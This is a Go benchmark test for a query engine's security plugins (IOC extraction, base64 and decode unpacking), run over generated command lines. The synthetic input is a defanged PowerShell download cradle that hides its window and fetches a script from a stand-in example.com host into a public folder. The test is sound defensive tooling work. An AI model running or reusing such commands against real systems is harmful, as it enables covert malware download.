package exec

import (
	"context"
	"fmt"
	"testing"
)

// BenchmarkPlugins measures the Go plugin path end to end (input query →
// Go → result table → SQL) over generated command lines, against the SQL
// that only builds the input, so the difference is the plugin's cost.
// Run: go test ./engine/exec -run '^$' -bench Plugins -benchtime 3x
func BenchmarkPlugins(b *testing.B) {
	const rows = 100_000
	input := fmt.Sprintf(`range i from 1 to %d step 1
| extend CommandLine = strcat("powershell -nop -w hidden -c iwr hxxp://update", i %% 97, "[.]example[.]com/a.ps1 -OutFile C:\\Users\\Public\\a", i, ".ps1; ping 10.0.", i %% 250, ".", i %% 200)`, rows)
	x := New(openTestDB(b))
	queries := []struct{ name, q string }{
		{"input_only", input + " | summarize count()"},
		{"ioc_extract", input + " | evaluate ioc_extract(CommandLine) | summarize count()"},
		{"extract_iocs", input + " | extend iocs = extract_iocs(CommandLine) | summarize countif(isnotempty(iocs))"},
		{"base64_unpack", input + " | extend d = base64_unpack(CommandLine) | summarize countif(isnotempty(d))"},
		{"decode_unpack", input + " | evaluate decode_unpack(CommandLine) | summarize count()"},
		{"narrow", input + " | evaluate narrow() | summarize count()"},
	}
	for _, q := range queries {
		b.Run(q.name, func(b *testing.B) {
			for b.Loop() {
				if _, err := x.Run(context.Background(), q.q, nil, RunOptions{}); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric(float64(rows)*float64(b.N)/b.Elapsed().Seconds(), "rows/s")
		})
	}
}
